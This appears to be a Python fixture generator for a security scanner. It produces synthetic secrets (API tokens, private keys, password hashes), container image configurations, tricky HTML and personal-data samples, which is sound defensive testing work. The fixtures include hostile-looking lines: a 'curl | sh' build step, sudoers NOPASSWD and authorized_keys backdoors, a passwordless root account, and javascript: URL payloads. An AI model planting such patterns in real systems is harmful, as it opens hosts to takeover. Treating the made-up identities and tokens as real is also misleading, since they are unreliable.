#!/usr/bin/env python3
"""The seeds of what is looked for in any file: credentials, personal data, HTML, container configuration. Tokens are made here, not copied from
anywhere, with wrong checksums, so that nobody's scanner takes them for real. Run it again after a change."""

import base64
import json
import struct

from seeds import seed

BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def chance(length, alphabet=BASE62, state=88172645463325252):
    out = ""
    for _ in range(length):
        state = (state * 6364136223846793005 + 1442695040888963407) % (1 << 64)
        out += alphabet[(state >> 33) % len(alphabet)]
    return out


def pem(label, line="\n"):
    der = b"\x30\x82\x00\xc8" + chance(200).encode()
    return f"-----BEGIN {label}-----{line}" + base64.b64encode(der).decode() + f"{line}-----END {label}-----{line}"


def jwt():
    parts = [base64.urlsafe_b64encode(x).decode().rstrip("=") for x in (b'{"alg":"RS256"}', b'{"sub":"svc","iss":"x"}')]
    return ".".join(parts + [chance(43)])


PPK = f"PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPublic-Lines: 1\nAAAA\nPrivate-Lines: 1\n{chance(44)}\n"
SETTINGS = f"""API_KEY={chance(40)}
"password": "Tr0ub4dor&3x",
url: postgres://app:{chance(12)}@db/x
root:$6$salt${chance(86)}:19000:
auth: {base64.b64encode(b"robot:" + chance(12).encode()).decode()}
Authorization: Bearer {chance(40)}
token = ${{TOKEN}}
"""
TOKENS = "\n".join(["ghp_" + chance(36), "npm_" + chance(36), "AKIA" + chance(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), "glpat-" + chance(20), jwt(),
                    "sk-" + chance(20) + "T3BlbkFJ" + chance(20), "AGE-SECRET-KEY-1" + chance(58, "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L")])


def secrets():
    for name, text in (("settings", SETTINGS), ("tokens", TOKENS), ("pem", pem("PRIVATE KEY")), ("ppk", PPK),
                       ("json", '{"k": "' + pem("RSA PRIVATE KEY", "\\n") + '"}'),
                       ("wrapped", base64.b64encode(pem("EC PRIVATE KEY").encode()).decode())):
        for place in range(4):
            seed("secrets", f"{name}-{place}", bytes([place]) + text.encode())
        target = {"settings": "secrets_setting", "tokens": "secrets_token"}.get(name, "secrets_key")
        seed(target, name, text.encode())
        seed("leaks", name, b"\x05" + text.encode())
    seed("secrets", "netrc", b"\x04machine a login b password " + chance(12).encode() + b"\n")
    seed("secrets", "pgpass", b"\x00h:1:d:u:" + chance(12).encode() + b"\n")
    for name, text in (("random", chance(40)), ("words", "my-secret-key-name"), ("uuid", "3f2504e0-4f89-41d3-9a0c-0305e82c3301"),
                       ("base64", base64.b64encode(chance(40).encode()).decode()), ("escaped", "QUJD\\nREVG\\n--")):
        seed("secrets_random", name, text.encode())


IMAGE = {
    "architecture": "amd64",
    "os": "linux",
    "rootfs": {"type": "layers", "diff_ids": ["sha256:" + "0" * 64]},
    "config": {"User": "root:root", "ExposedPorts": {"22/tcp": {}}, "Env": ["PATH=/bin", "DB_PASSWORD=postgres1"], "Cmd": ["/usr/sbin/sshd", "-D"],
               "Volumes": {"/var/run/docker.sock": {}}, "Healthcheck": {"Test": ["CMD-SHELL", "curl http://away.test/x"]}, "OnBuild": ["RUN x"]},
    "history": [{"created_by": "/bin/sh -c #(nop) ADD https://away.test/x.tar /"}, {"created_by": "RUN curl -s https://a.test | sh"}],
}


def images():
    text = json.dumps(IMAGE).encode()
    seed("image_config", "all", text)
    seed("image_config", "cut", text[:-3])
    seed("leaks", "image", b"\x05" + text)
    for name, head, path, body in (
        ("setuid", b"\x18\xed\x09", b"usr/bin/su", b"x"), ("capability", b"\x08\xed\x01", b"usr/bin/ping", b"x"),
        ("device", b"\x2a\xb6\x01", b"dev/null", b""), ("folder", b"\x09\xff\x01", b"etc/x", b""),
        ("sudo", b"\x08\x20\x01", b"etc/sudoers.d/x", b"# c\nme ALL=(ALL) NOPASSWD: ALL\n"),
        ("keys", b"\x08\x80\x01", b"root/.ssh/authorized_keys", b"ssh-ed25519 AAAA me\n"),
        ("passwd", b"\x08\xa4\x01", b"etc/passwd", b"root:x:0:0::/:/bin/sh\ntoor::0:0::/:/bin/sh\n")):
        seed("layer_rules", name, head + path + b"\n\x14" + struct.pack("<IIIII", 0x2000001, 0x2000, 0, 0, 0) + body)


PAGES = {
    "page": '<!DOCTYPE html><html><head><meta charset=utf-8><title>a <!-- b</title><style>p{background:url(https://a.test)}</style></head>'
            '<body onload="x()"><a href="java&Tab;script&#58;1">x</a><img srcset="a 1x, //a.test/b 2x"><!-- c --!><br/></body></html>',
    "script": '<script type=module>a</script ><noscript><p title="</noscript>"></p><textarea></textarea><iframe srcdoc="x" src=//a.test></iframe>',
    "svg": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg:svg><![CDATA[><svg:script>1</svg:script>]]><use xlink:href=//a.test#b /></svg:svg>',
    "forms": "<base href=//a.test><form action=//a.test><meta http-equiv=refresh content='0;url=//a.test'><object data=a></object><link rel=next href=//a>",
    "broken": "<a b='c < d > e <!-- <!-> <!---> </ x><?php ?><!x><",
}
NOTES = "# a\n\n`<b>` ``c ` d``\n```x\n<script>\n```\n<pre>\n```\n</pre>\n[x](<javascript:1>) [y]: data:text/html,\n~~~\n<i>\n"


def pages():
    for name, text in PAGES.items():
        seed("html_doc", name, text.encode())
        seed("html_token", name, text.encode())
    seed("html_doc", "notes", NOTES.encode())
    seed("markdown", "notes", NOTES.encode())
    seed("leaks", "notes", b"\x00" + NOTES.encode())


NUMBERS = ["DE51100500001234567897", "4539148803436467", "86095742719", "85031284735", "185037800608459", "2A5037800608459", "48273915C", "X4827391J",
           "482739150", "BNCLRA85C52H501S", "48273915624", "772748273908", "512482739", "AB482739C"]
PASSPORT = "P<DEUBERG<<ANNA<<<<<<<<<<<<<<<<<<<<<<<<<<<<<\nC4X27K9L11DEU8503127F3105113<<<<<<<<<<<<<<00\n"
PEOPLE = f"""Pay DE51 1005 0000 1234 5678 97 with 4539 1488 0343 6467 12/27, anna@mail.kunde.de, +49 30 482 73-91, 84.17.3.9
Steuer-ID 86095742719 PESEL 85031284735 DNI 48273915C BSN 482739150 SSN 512-48-2739 NI number AB 48 27 39 C 482-739-156 24 INN 772748273908
{PASSPORT}"""


def people():
    seed("personal", "all", PEOPLE.encode())
    seed("personal", "numbers", " ".join(NUMBERS).encode())
    seed("personal_numbers", "all", ("\n".join(NUMBERS) + "\n").encode())
    seed("personal_numbers", "passport", PASSPORT.encode())
    seed("leaks", "people", b"\x01" + PEOPLE.encode())


def main():
    secrets()
    images()
    pages()
    people()


if __name__ == "__main__":
    main()
